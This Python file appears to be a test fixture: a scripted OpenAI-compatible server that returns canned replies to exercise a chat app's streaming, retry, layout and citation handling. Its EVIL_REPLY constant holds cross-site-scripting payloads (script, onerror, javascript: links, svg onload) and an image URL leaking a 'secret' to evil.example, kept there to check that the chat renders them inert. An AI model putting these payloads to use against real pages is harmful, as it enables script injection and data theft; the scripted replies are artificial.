"""The tests' model: a scripted OpenAI-compatible server, one for every test that checks the app
rather than the model's words (the backend tests, the browser tests, the exercises' checks). The
tests start it as a real process: python tests/scripted_llm.py PORT

It lists one model, MODEL, and answers deterministically, by what the prompt says:
- "[outage]" in the last message: HTTP 503, "scripted outage" (the chat shows it, with Retry);
- "[evil]": EVIL_REPLY, hostile markdown the chat must render inert;
- "[code]": CODE_REPLY, a long code line, a footnote and a quote (layout checks);
- "[slow]": 400 words, slowly (to stop it, or leave it, mid-way);
- the chat's Continue instruction: CONTINUED, the rest of the cut-off reply;
- the RAG part's numbered sources (`[1] title` lines, each passage, then `Question: ...`): source 1's
  first sentence without a marker (the backend's grounding must find it); with "[cite]" marked [1],
  then a sentence citing [7], a source that does not exist (never shown as a citation); with
  "[unanswerable]", UNANSWERABLE, a sentence no passage says;
- a system message saying no passage matches (the RAG part's prompt then): NO_SOURCES;
- anything else: REPLY word by word, repeated up to `max_tokens` words (finish_reason "length"),
  or DEFAULT_TOKENS words and "stop".
An unknown model gets 404 with the server's own message, streamed or not, like a real server.
"""

import itertools
import json
import re
import sys
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

MODEL = "scripted-model"
REPLY = "Hello! This is the scripted model. It answers every prompt the same way, word by word."
DEFAULT_TOKENS = 40
SECONDS_PER_TOKEN = 0.02
CONTINUE_MARK = "Your last reply was cut off."  # app.api.routes.chat.CONTINUE_INSTRUCTION
CONTINUED = "That is all the sources say about it."
NO_SOURCES = "Your documents do not cover this."
UNANSWERABLE = "I cannot tell from these documents what the weather on Mars will be tomorrow."
EVIL_REPLY = "\n\n".join(
    [
        "Here is **bold** text and a [safe link](https://example.com/docs).",
        '<script>window.__pwned = "script"</script>',
        '<img src="x" onerror="window.__pwned = \'img\'">',
        "[click me](javascript:window.__pwned='link')",
        "<a href=\"javascript:window.__pwned='a'\">html link</a>",
        "![tracker](https://evil.example/leak.png?c=secret)",
        '<iframe src="https://evil.example/frame"></iframe>',
        "<svg onload=\"window.__pwned = 'svg'\"></svg>",
        '```html\n<script>window.__pwned = "code"</script>\n```',
        "The end.",
    ]
)
CODE_REPLY = "\n\n".join(
    [
        "Here is a function with a long line[^1]:",
        '```python\ndef greet(name):\n    return f"Hello, {name}! Welcome to the chat app that never '
        'overflows on a phone."\n```',
        "> A quote has a bar, like in the chat apps people know.",
        "[^1]: The line is over 55 characters.",
    ]
)


def words(text: str) -> list[str]:
    return re.findall(r"\s*\S+", text)


def pieces(text: str) -> list[str]:
    """Seven characters at a time: tags arrive split ("<scr", "ipt>"), as a real token stream splits them."""
    return [text[i : i + 7] for i in range(0, len(text), 7)]


def first_sentence(passage: str) -> str:
    """The first sentence of at least six words (split as the RAG part's grounding splits)."""
    parts = re.split(r"(?<=[.!?])\s+|\n+", passage)
    return next((p.strip() for p in parts if len(p.split()) >= 6), passage.strip())


def docs_reply(prompt: str, systems: list[str]) -> str | None:
    """The reply to a prompt with the RAG part's sources, or to its no-passage prompt; else None."""
    if any(s.startswith("No passage") for s in systems):
        return NO_SOURCES
    sources = re.findall(r"^\[(\d+)\] [^\n]*\n(.*?)(?=\n\n\[\d+\] |\n\nQuestion: )", prompt, re.M | re.S)
    if not sources:
        return None
    question = prompt.rsplit("Question: ", 1)[-1]
    if "[unanswerable]" in question:
        return UNANSWERABLE
    sentence = first_sentence(sources[0][1])
    return f"{sentence} [1] Some say more about it [7]." if "[cite]" in question else sentence


def reply_for(body: dict) -> tuple[list[str], str, float]:
    """The reply's tokens, its finish reason and the seconds between tokens."""
    messages = body.get("messages") or [{"role": "user", "content": ""}]
    last = str(messages[-1].get("content", ""))
    systems = [str(m.get("content", "")) for m in messages if m.get("role") == "system"]
    if "[evil]" in last:
        return pieces(EVIL_REPLY), "stop", 0.005
    if "[code]" in last:
        return pieces(CODE_REPLY), "stop", 0.005
    if "[slow]" in last:
        return [f" word{i}" for i in range(400)], "stop", 0.05
    if last.startswith(CONTINUE_MARK):
        return words(CONTINUED), "stop", 0.01
    if (docs := docs_reply(last, systems)) is not None:
        return words(docs), "stop", 0.01
    max_tokens = body.get("max_tokens")
    reply = list(itertools.islice(itertools.cycle(words(" " + REPLY)), max_tokens or DEFAULT_TOKENS))
    reply[0] = reply[0].lstrip()
    return reply, ("length" if max_tokens else "stop"), SECONDS_PER_TOKEN


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args) -> None:  # quiet
        pass

    def send_json(self, status: int, payload: dict) -> None:
        body = json.dumps(payload).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:
        if self.path == "/v1/models":
            models = [{"id": MODEL, "object": "model", "owned_by": "tests"}]
            self.send_json(200, {"object": "list", "data": models})
        else:
            self.send_json(404, {"error": {"message": f"no route GET {self.path}"}})

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers.get("Content-Length", 0))) or b"{}")
        if self.path != "/v1/chat/completions":
            self.send_json(404, {"error": {"message": f"no route POST {self.path}"}})
            return
        if body.get("model") != MODEL:
            self.send_json(404, {"error": {"message": f"model {body.get('model')!r} not found"}})
            return
        last = str((body.get("messages") or [{}])[-1].get("content", ""))
        if "[outage]" in last:
            self.send_json(503, {"error": {"message": "scripted outage", "type": "server_error"}})
            return
        tokens, finish, pause = reply_for(body)
        base = {"id": "chatcmpl-scripted", "created": int(time.time()), "model": MODEL}
        if not body.get("stream"):
            message = {"role": "assistant", "content": "".join(tokens)}
            choice = {"index": 0, "message": message, "finish_reason": finish}
            self.send_json(200, {**base, "object": "chat.completion", "choices": [choice]})
            return
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Connection", "close")
        self.end_headers()

        def send(delta: dict, finish_reason: str | None = None) -> None:
            choice = {"index": 0, "delta": delta, "finish_reason": finish_reason}
            chunk = {**base, "object": "chat.completion.chunk", "choices": [choice]}
            self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
            self.wfile.flush()

        try:
            send({"role": "assistant", "content": ""})
            for token in tokens:
                time.sleep(pause)
                send({"content": token})
            send({}, finish)
            self.wfile.write(b"data: [DONE]\n\n")
        except (BrokenPipeError, ConnectionResetError):
            pass  # the client stopped reading: stop generating, like a real server
        self.close_connection = True


if __name__ == "__main__":
    server = ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler)
    server.daemon_threads = True
    server.serve_forever()
